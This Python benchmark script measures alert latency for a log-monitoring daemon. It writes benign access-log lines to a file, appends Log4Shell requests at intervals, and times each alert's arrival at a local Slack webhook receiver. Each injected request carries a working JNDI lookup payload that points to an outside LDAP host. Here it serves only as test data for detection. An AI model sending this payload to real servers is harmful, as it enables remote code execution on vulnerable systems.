"""End to end: from the append of an attack line to the Slack message about it.

The daemon runs as a subprocess with the shipped model and the default rule pack,
following a file that receives background traffic at `--rate` lines/s (benign
access-log lines). Every `--spacing` seconds one Log4Shell request from a fresh
address is appended; the alert it raises goes through the spool to a loopback
server implementing Slack's webhook contract. Reported: p50/p99/max of
(arrival at the Slack receiver - append of the line).

Usage: python bench/bench_e2e_slack.py [--bursts 60] [--rate 1000] [--spacing 1.5]
"""

from __future__ import annotations

import argparse
import asyncio
import signal
import statistics
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import yaml

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from tests.servers.slack import SlackReceiver


def attack_ip(burst: int) -> str:
    return f"198.18.{burst // 250}.{burst % 250 + 1}"


async def run(bursts: int, rate: int, spacing: float) -> None:
    with tempfile.TemporaryDirectory(prefix="logsentry-e2e-") as tmp:
        work = Path(tmp)
        log = work / "access.log"
        log.touch()
        async with SlackReceiver() as slack:
            config = {
                "state_dir": str(work / "state"),
                "sources": [{"type": "file", "paths": [str(log)], "start_at": "end"}],
                "sinks": [{"type": "slack", "webhook_url": slack.webhook_url,
                           "min_interval": 1.0, "routing": {"rule_ids": ["web.log4shell"]}}],
                "service": {"metrics": {"enabled": False}},
            }
            (work / "config.yaml").write_text(yaml.safe_dump(config))
            daemon = subprocess.Popen(
                [sys.executable, "-m", "logsentry.cli", "--log-level", "warning", "run",
                 "--config", str(work / "config.yaml")])
            await asyncio.sleep(6.0)  # model load and start-up
            appended: dict[str, float] = {}
            interval = 1.0 / rate
            next_burst = time.monotonic() + spacing
            burst = 0
            with open(log, "a", buffering=1) as handle:
                next_time = time.monotonic()
                sequence = 0
                while burst < bursts:
                    now = time.monotonic()
                    if now >= next_burst:
                        ip = attack_ip(burst)
                        appended[ip] = time.monotonic()
                        handle.write(
                            f'{ip} - - [26/Nov/2026:06:00:00 +0000] "GET /?q=${{jndi:ldap://'
                            f'198.51.100.9:1389/a}} HTTP/1.1" 404 153 "-" "curl/8.5.0"\n')
                        burst += 1
                        next_burst += spacing
                    handle.write(
                        f'203.0.113.{sequence % 200} - - [26/Nov/2026:06:00:00 +0000] '
                        f'"GET /static/app.{sequence}.js HTTP/1.1" 200 5120 "-" "Mozilla/5.0"\n')
                    sequence += 1
                    next_time += interval
                    await asyncio.sleep(max(0.0, next_time - time.monotonic()))
            await asyncio.sleep(3.0)
            daemon.send_signal(signal.SIGTERM)
            daemon.wait(30)
            latencies = []
            for request in slack.accepted():
                body = request.body.decode()
                for ip in list(appended):
                    if ip in body:
                        latencies.append((request.at - appended.pop(ip)) * 1000)
    latencies.sort()
    if not latencies:
        print("no alert reached the Slack receiver")
        return
    p99 = latencies[min(len(latencies) - 1, int(len(latencies) * 0.99))]
    print(f"append-to-Slack latency, background {rate} lines/s, {bursts} bursts: "
          f"n={len(latencies)} missing={len(appended)} p50={statistics.median(latencies):.1f} ms "
          f"p99={p99:.1f} ms max={latencies[-1]:.1f} ms")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--bursts", type=int, default=60)
    parser.add_argument("--rate", type=int, default=1000)
    parser.add_argument("--spacing", type=float, default=1.5)
    args = parser.parse_args()
    asyncio.run(run(args.bursts, args.rate, args.spacing))


if __name__ == "__main__":
    main()
